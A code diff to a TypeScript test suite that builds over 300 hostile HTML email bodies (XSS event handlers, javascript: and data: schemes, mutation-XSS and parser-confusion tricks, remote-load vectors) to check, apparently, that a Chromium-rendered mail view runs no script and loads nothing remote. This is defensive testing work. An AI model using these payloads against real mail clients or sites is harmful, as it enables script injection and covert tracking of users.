@@ -10,7 +10,6 @@ import type { Database, Query } from "../../src/store/driver.ts";
 import { migrate } from "../../src/store/migrate.ts";
 import { ensureChannel, settleEvent } from "../../src/store/tables/events.ts";
 import { consoleRig } from "../support/commands/console.ts";
-import { type HostileMail, hostileMails } from "../support/email/hostile-html.ts";
 import { needChromium, startChromium, visit } from "../support/machine/chromium.ts";
 import { describeReal } from "../support/machine/debian.ts";
 import { conversation, event, insertEvent, sqlitePlace } from "../support/store/databases.ts";
@@ -56,6 +55,219 @@ async function store(q: Query, id: string, html: string, of: string | null): Pro
   );
   const row = await q.one<{ id: number }>("SELECT id FROM events WHERE external_id = $1", id);
   await settleEvent(q, row?.id ?? 0, { state: "routed", ...(of === null ? {} : { conversation: of }) });
+}
+
+// HTML bodies that try to run a script or to load something from elsewhere. Each uses its own name, so that a success names
+// the body. `ran` is called by every script; `away` is the address of a server that notes every request.
+
+interface HostileMail {
+  readonly name: string;
+  readonly html: string;
+}
+
+const events = [
+  "onload",
+  "onerror",
+  "onclick",
+  "onmouseover",
+  "onfocus",
+  "ontoggle",
+  "onanimationstart",
+  "onbegin",
+  "onpageshow",
+  "onpointerenter",
+  "onscroll",
+  "onwheel",
+  "onbeforetoggle",
+  "onhashchange",
+  "onmessage",
+  "onresize",
+  "oncopy",
+  "oncut",
+  "onpaste",
+  "oninput",
+  "onchange",
+  "onsubmit",
+  "onreset",
+  "onselect",
+  "ontransitionend",
+];
+
+const places: readonly ((attribute: string, away: string) => string)[] = [
+  (attribute) => `<body ${attribute}>text`,
+  (attribute, away) => `<img src="${away}" ${attribute}>`,
+  (attribute) => `<svg ${attribute}><circle r=9 /></svg>`,
+  (attribute) => `<details open ${attribute}><summary>s</summary>x</details>`,
+  (attribute) => `<input autofocus ${attribute}>`,
+  (attribute) => `<p style="animation:x 1s" ${attribute}>p</p>`,
+];
+
+const schemes = [
+  "javascript:RAN",
+  "JaVaScRiPt:RAN",
+  " javascript:RAN",
+  "java\tscript:RAN",
+  "java\nscript:RAN",
+  "&#106;avascript:RAN",
+  "javascript&colon;RAN",
+  "\u0001javascript:RAN",
+  "data:text/html,<script>RAN</script>",
+  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
+  "vbscript:RAN",
+  "blob:RAN",
+  "AWAY",
+  "//AWAYHOST/x",
+];
+
+const carriers: readonly ((url: string) => string)[] = [
+  (url) => `<a href="${url}">click</a>`,
+  (url) => `<iframe src="${url}"></iframe>`,
+  (url) => `<object data="${url}"></object>`,
+  (url) => `<embed src="${url}">`,
+  (url) =>
+    `<form action="${url}"><input type=submit autofocus></form><script>document.forms[0].submit()</script>`,
+  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
+];
+
+const loads: readonly string[] = [
+  `<img src="AWAY">`,
+  `<img srcset="AWAY 1x, AWAY 2x">`,
+  `<picture><source srcset="AWAY"><img></picture>`,
+  `<link rel="stylesheet" href="AWAY">`,
+  `<link rel="preload" as="image" href="AWAY">`,
+  `<link rel="dns-prefetch" href="AWAY">`,
+  `<link rel="preconnect" href="AWAY">`,
+  `<link rel="prefetch" href="AWAY">`,
+  `<link rel="modulepreload" href="AWAY">`,
+  `<link rel="icon" href="AWAY">`,
+  `<link rel="manifest" href="AWAY">`,
+  `<style>@import url(AWAY);</style>`,
+  `<style>body{background:url(AWAY)}</style>`,
+  `<style>@font-face{font-family:f;src:url(AWAY)}*{font-family:f}</style>`,
+  `<p style="background:url(AWAY)">p</p>`,
+  `<p style="background:\\75rl(AWAY)">p</p>`,
+  `<p style='list-style:url("AWAY")'>p</p>`,
+  `<p style="cursor:url(AWAY),auto">p</p>`,
+  `<p style="content:url(AWAY)">p</p>`,
+  `<p style="behavior:url(AWAY)">p</p>`,
+  `<p style="background:image-set(url(AWAY) 1x)">p</p>`,
+  `<table background="AWAY"><tr><td background="AWAY">x</table>`,
+  `<body background="AWAY">`,
+  `<video src="AWAY" autoplay></video>`,
+  `<video poster="AWAY"></video>`,
+  `<audio src="AWAY" autoplay></audio>`,
+  `<video><source src="AWAY"></video>`,
+  `<track src="AWAY">`,
+  `<input type="image" src="AWAY">`,
+  `<frameset><frame src="AWAY"></frameset>`,
+  `<iframe srcdoc="<img src='AWAY'><script>RAN</script>"></iframe>`,
+  `<svg><image href="AWAY" width=9 height=9 /></svg>`,
+  `<svg><image xlink:href="AWAY" width=9 height=9 /></svg>`,
+  `<svg><use href="AWAY#x" /></svg>`,
+  `<svg><feImage href="AWAY" /></svg>`,
+  `<svg><style>*{background:url(AWAY)}</style></svg>`,
+  `<svg><foreignObject><img src="AWAY"></foreignObject></svg>`,
+  `<svg><a href="javascript:RAN"><text y=9>x</text></a></svg>`,
+  `<svg><animate onbegin="RAN" attributeName="x" dur="1s" /></svg>`,
+  `<svg><set onbegin="RAN" attributeName="x" /></svg>`,
+  `<svg><script>RAN</script></svg>`,
+  `<svg><script href="AWAY"></script></svg>`,
+  `<svg><handler type="text/javascript">RAN</handler></svg>`,
+  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:RAN">x</maction></math>`,
+  `<math href="javascript:RAN">x</math>`,
+  `<math><mtext><img src="AWAY" onerror="RAN"></mtext></math>`,
+  `<base href="AWAY"><img src="x.png">`,
+  `<script src="AWAY"></script>`,
+  `<script>RAN</script>`,
+  `<SCRIPT>RAN</SCRIPT>`,
+  `<script type="module">RAN</script>`,
+  `<script\n>RAN</script\n>`,
+  `<script/x>RAN</script>`,
+  `<<script>RAN//<</script>`,
+  `<scr<script>ipt>RAN</scr</script>ipt>`,
+  `<noscript><p title="</noscript><img src=AWAY onerror=RAN>"></noscript>`,
+  `<template><script>RAN</script></template>`,
+  `<template shadowrootmode="open"><img src="AWAY" onerror="RAN"></template>`,
+  `<isindex action="javascript:RAN" type=image>`,
+  `<applet code="AWAY"></applet>`,
+  `<portal src="AWAY"></portal>`,
+  `<fencedframe src="AWAY"></fencedframe>`,
+  `<bgsound src="AWAY">`,
+  `<layer src="AWAY"></layer>`,
+  `<xml id=x src="AWAY"></xml>`,
+  `<?xml-stylesheet href="AWAY"?>`,
+  `<![CDATA[<script>RAN</script>]]>`,
+  `<!--[if true]><script>RAN</script><![endif]-->`,
+  `<!--><script>RAN</script>-->`,
+  `<!--!><img src=AWAY onerror=RAN>`,
+  `<textarea><script>RAN</script></textarea><img src=AWAY>`,
+  `<title><img src=AWAY onerror=RAN></title>`,
+  `<plaintext><script>RAN</script>`,
+  `<xmp><script>RAN</script></xmp><img src=AWAY onerror=RAN>`,
+  `<listing>&lt;img src=AWAY onerror=RAN&gt;</listing>`,
+  `<form><math><mtext></form><form><mglyph><style></math><img src=AWAY onerror=RAN>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=AWAY onerror=RAN&gt;">`,
+  `<svg></p><style><a id="</style><img src=AWAY onerror=RAN>">`,
+  `<svg><style><img src=AWAY onerror=RAN></style></svg>`,
+  `<noembed><img title="</noembed><img src=AWAY onerror=RAN>"></noembed>`,
+  `<noframes><img src=AWAY onerror=RAN></noframes>`,
+  `<table><caption><script>RAN</script></caption><td><style>*{background:url(AWAY)}</style>`,
+  `<select><iframe src="AWAY"></iframe></select>`,
+  `<a href="AWAY" ping="AWAY">a</a>`,
+  `<img alt="<script>RAN</script>" src=AWAY>`,
+  `<img alt='"><script>RAN</script>' src=AWAY>`,
+  `<a href='"><script>RAN</script>'>x</a>`,
+  `<a href="&quot;&gt;&lt;img src=AWAY onerror=RAN&gt;">x</a>`,
+  `<p title="\u2028</p><script>RAN</script>">x</p>`,
+  `</body></html><script>RAN</script>`,
+  `</style><script>RAN</script>`,
+  `</title></head><body onload=RAN>`,
+  `<img src=x:x onerror\u0000=RAN>`,
+  `<img/src=AWAY/onerror=RAN>`,
+  `<img\fsrc=AWAY\fonerror=RAN>`,
+  `<img src=\`AWAY\`onerror=RAN>`,
+  `+ADw-script+AD4-RAN+ADw-/script+AD4-`,
+  `<meta charset="utf-7">+ADw-script+AD4-RAN+ADw-/script+AD4-`,
+  `<meta http-equiv="content-security-policy" content="default-src *"><img src=AWAY>`,
+  `<meta http-equiv="set-cookie" content="a=b">`,
+  `<marquee onstart=RAN>x</marquee>`,
+  `<button popovertarget=x onclick=RAN autofocus>b</button><div popover id=x onbeforetoggle=RAN>p</div>`,
+  `<dialog open oncancel=RAN>d</dialog>`,
+  `<keygen autofocus onfocus=RAN>`,
+  `<object type="text/html" data="data:text/html,<script>RAN</script>"></object>`,
+  `<embed type="image/svg+xml" src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RAN'/>">`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='AWAY'/></svg>">`,
+  `<x-custom onclick=RAN tabindex=1 autofocus>x</x-custom>`,
+  `<span title="x" style="position:fixed;inset:0;background:url(AWAY)">overlay</span>`,
+  `<a target=_top href="AWAY"><img src=AWAY></a>`,
+  `<map name=m><area shape=default href="javascript:RAN"></map><img usemap=#m src=AWAY>`,
+  `<input formaction="javascript:RAN" type=submit autofocus>`,
+  `<cursor xlink:href="AWAY">`,
+  `<div datasrc="AWAY" dataformatas=html>x</div>`,
+  `<br size="&{RAN}">`,
+  `<p dir="rtl\u202e">\u202etxet</p><script>RAN</script>`,
+];
+
+const manyDivs = "<div>".repeat(20_000);
+
+/** At least 300 bodies. */
+function hostileMails(away: string): readonly HostileMail[] {
+  const host = new URL(away).host;
+  const bodies = [
+    ...events.flatMap((event) => places.map((place) => place(`${event}="RAN"`, "AWAY"))),
+    ...schemes.flatMap((scheme) => carriers.map((carrier) => carrier(scheme))),
+    ...loads,
+    `${manyDivs}<script>RAN</script><img src=AWAY onerror=RAN>`,
+    `${"<table><tr><td>".repeat(3000)}<img src=AWAY onerror=RAN>`,
+    `${"<a b=".repeat(30_000)}<script>RAN</script>`,
+  ];
+  return bodies.map((body, at) => {
+    const html = body
+      .replaceAll("AWAYHOST", host)
+      .replaceAll("AWAY", `${away}?body=${at}`)
+      .replaceAll("RAN", `fetch('${away}?ran=${at}');top.ran=${at}`);
+    return { name: `${at}: ${body.slice(0, 80)}`, html };
+  });
 }
 
 const missing = await needChromium();
